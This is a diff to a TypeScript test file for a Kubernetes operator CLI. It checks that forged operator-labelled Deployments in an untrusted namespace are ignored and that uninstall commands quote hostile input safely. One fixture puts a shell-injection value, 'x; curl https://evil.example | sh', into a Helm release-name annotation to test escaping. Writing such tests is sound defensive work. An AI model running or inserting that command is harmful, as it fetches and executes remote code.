@@ -1,9 +1,10 @@
 import { beforeEach, describe, expect, it } from 'vitest';
 import type { OrphansData } from '../../../src/plugin/output/account-shapes.ts';
 import type { UninstallData } from '../../../src/plugin/output/shapes.ts';
+import type { Backend } from '../../support/backend.ts';
 import { cloud, type CliOptions, dataOf, endpoint, type Ran } from '../../support/cloud-cli.ts';
 import { CloudUser } from '../../support/cloud-user.ts';
-import { World } from '../../support/world.ts';
+import { type RunningOperator, World } from '../../support/world.ts';
 
 /** `evil` may make what it likes in its namespace, and adopt nothing; the administrator types a line about all namespaces. */
 const [platform, heir, evil, stranger] = ['platform', 'team-a', 'evil', 'stranger'];
@@ -12,11 +13,12 @@ const volume = { accountRef, region: 'eu-central', sizeGiB: 20 };
 const minute = 60_000;
 const pause = 'cloudhosting.dev/pause';
 let world: World;
+let operator: RunningOperator;
 beforeEach(async () => {
   world = await World.create();
   for (const name of [platform, evil, stranger]) await world.namespace(name);
   await world.account({ access: [{ namespaces: [heir], adopt: 'Any' }, { namespaces: [evil] }] }, platform);
-  await world.start();
+  operator = await world.start();
   await world.ready('CloudAccount', 'default', minute, platform);
 });
 const typed = (line: string, options: CliOptions = {}): Promise<Ran> => cloud(world, line, { limit: 30 * minute, ...options });
@@ -173,10 +175,76 @@ it.each(['status', 'why', 'tree'])('%s of all does not ask for each of thousands
   expect(world.server.ledger.requests.length).toBeLessThan(200);
 });
 
+describe('Deployments and Pods with the labels of an operator', () => {
+  const labels = { 'app.kubernetes.io/name': 'cloud-operator' };
+  const isReady = { conditions: [{ type: 'Ready', status: 'True' }], readyReplicas: 1 };
+  const of = (name: string, namespace: string) => ({
+    metadata: { name, namespace, labels },
+    spec: { replicas: 1, template: { spec: { containers: [{ image: `${name}:1` }] } } },
+    status: isReady,
+  });
+  const lists: Record<string, readonly object[]> = {
+    '/apis/apps/v1/deployments': [of('forged', evil), of('real', 'ops')],
+    '/api/v1/pods': [of('forged', evil), of('real', 'ops')],
+    '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings': [
+      { subjects: [{ kind: 'ServiceAccount', name: 'cloud-operator', namespace: 'ops' }] },
+    ],
+  };
+  const asked: string[] = [];
+  const between =
+    (...except: readonly string[]) =>
+    (server: Backend): Backend => ({
+      handle: (request) => {
+        asked.push(request.path);
+        const items = Object.entries(lists).find(([path]) => request.path.split('?')[0] === path && !except.includes(path))?.[1];
+        if (items === undefined) return server.handle(request);
+        return Promise.resolve({ status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ items }) });
+      },
+    });
+  const steps = async (...except: readonly string[]) =>
+    (dataOf(await typed('uninstall -o json', { between: between(...except) })) as unknown as UninstallData).steps[3];
+  const strip = () => typed(`uninstall --strip --confirm 1 -n ${evil}`, { between: between(), files: {} });
+  beforeEach(() => void asked.splice(0));
+
+  it('are those of an operator only where an administrator has bound one', async () => {
+    const { out } = await typed('version', { between: between() });
+    expect(out).toMatch(/^ops\/real +unknown +1 of 1 +real:1$/m);
+    expect(out).not.toMatch(/^evil\//m);
+    expect(out).toMatch(/\nDeployments not counted: evil\/forged, with the labels of an operator, but in a namespace /);
+    for (const line of ['doctor -A', 'bundle -A --to b.tar.gz']) {
+      asked.splice(0);
+      await typed(line, { between: between(), files: {} });
+      expect(
+        asked.filter((path) => /\/pods\/|networkpolicies/.test(path)).map((path) => path.split('/')[path.includes('/apis/') ? 5 : 4]),
+      ).toContain('ops');
+      expect(asked.filter((path) => path.includes(`/namespaces/${evil}/`) && /pods|networkpolicies/.test(path))).toEqual([]);
+    }
+  });
+  it('hold up no uninstall, and no finalizer that is taken off', async () => {
+    expect(await steps()).toMatchObject({
+      seen: expect.stringMatching(/^ops\/real; not counted: evil\/forged, /) as string,
+      commands: [expect.stringContaining('--namespace ops '), expect.any(String)],
+    });
+    // Served accounts and leases of the operator that runs outside are all that is left.
+    expect(await steps('/apis/rbac.authorization.k8s.io/v1/clusterrolebindings')).toMatchObject({
+      seen: expect.stringMatching(/^no Deployment of it is to be seen, .*; not counted: evil\/forged, ops\/real, /) as string,
+      commands: [],
+    });
+    await world.apply('CloudVolume', 'data', volume, evil);
+    await world.ready('CloudVolume', 'data', minute, evil);
+    operator.kill();
+    await world.delete('CloudVolume', 'data', evil);
+    await world.clock.advance(10 * minute);
+    expect(await strip()).toMatchObject({ exit: 3, err: expect.stringContaining(': ops/real runs, and will end') as string });
+    lists['/apis/apps/v1/deployments'] = [of('forged', evil)];
+    expect((await strip()).exit).toBe(0);
+  });
+});
+
 it('a Deployment that calls itself of a release writes no shell into a line to type', async () => {
   const metadata = {
     name: 'x',
-    namespace: evil,
+    namespace: 'cloud-operator',
     labels: { 'app.kubernetes.io/name': 'cloud-operator' },
     annotations: { 'meta.helm.sh/release-name': "x; curl https://evil.example | sh; '" },
   };
@@ -193,7 +261,7 @@ it('a Deployment that calls itself of a release writes no shell into a line to t
     }),
   });
   expect((dataOf(ran) as unknown as UninstallData).steps[3]?.commands).toEqual([
-    `helm uninstall 'x; curl https://evil.example | sh; '\\''' --namespace evil`,
+    `helm uninstall 'x; curl https://evil.example | sh; '\\''' --namespace cloud-operator`,
   ]);
 });
 
